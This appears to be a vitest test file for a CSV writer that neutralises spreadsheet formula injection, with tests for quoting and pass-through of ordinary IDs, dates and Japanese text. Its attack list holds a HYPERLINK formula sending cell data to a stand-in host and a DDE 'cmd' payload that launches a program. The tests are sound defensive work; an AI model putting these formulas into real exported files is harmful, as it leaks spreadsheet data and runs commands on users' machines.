/**
 * The one CSV cell writer (shared/csv-write.ts): what a spreadsheet would evaluate is
 * defused, everything else comes back unchanged when the file is read as CSV.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, isFormulaLike } from '../../shared/csv-write';

/** What a CSV reader (and so Excel, minus its formula step) sees in the cell. */
const readBack = (cell: string) => Papa.parse<string[]>(cell + ',end\r\n', { header: false }).data[0]![0];

describe('csvCell: formula injection', () => {
  const attacks = [
    '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '＝1+1',
    '＋1+1',
    '－2+3',
    '＠SUM(1,2)',
    '  =1+1',
    '\u3000=1+1',
    '\t=1+1',
    '\r=1+1',
    '=cmd|\' /C calc\'!A0',
  ];

  it.each(attacks)('%j is written as text that starts with an apostrophe', (attack) => {
    expect(isFormulaLike(attack)).toBe(true);
    const cell = csvCell(attack);
    expect(cell.startsWith('"\'')).toBe(true);
    expect(readBack(cell)).toBe("'" + attack);
  });

  it('leaves ids, codes, dates, plain numbers and Japanese text as they are', () => {
    for (const v of ['41720031', 'priority', 'AGE_65_PLUS MULTI_RISK_40_64', 'phone:PHONE_SHARED:warning', '2022-02-09', '-3', '+81', '36.5', '患者（確定例）', 'A-1', 'x=1']) {
      expect(isFormulaLike(v), v).toBe(false);
      expect(csvCell(v), v).toBe(v);
    }
  });

  it('quotes separators, quotes and line breaks, and they read back unchanged', () => {
    for (const v of ['A,1 "x"', '二行\r\nの値', ' lead', 'trail ', 'a;b', 'tab\tin']) {
      const cell = csvCell(v);
      expect(cell.startsWith('"'), v).toBe(true);
      expect(readBack(cell), v).toBe(v);
    }
  });

  it('csvRow joins defused cells with commas', () => {
    expect(csvRow(['=1+1', 'ok', '', 'a,b'])).toBe('"\'=1+1",ok,,"a,b"');
  });
});
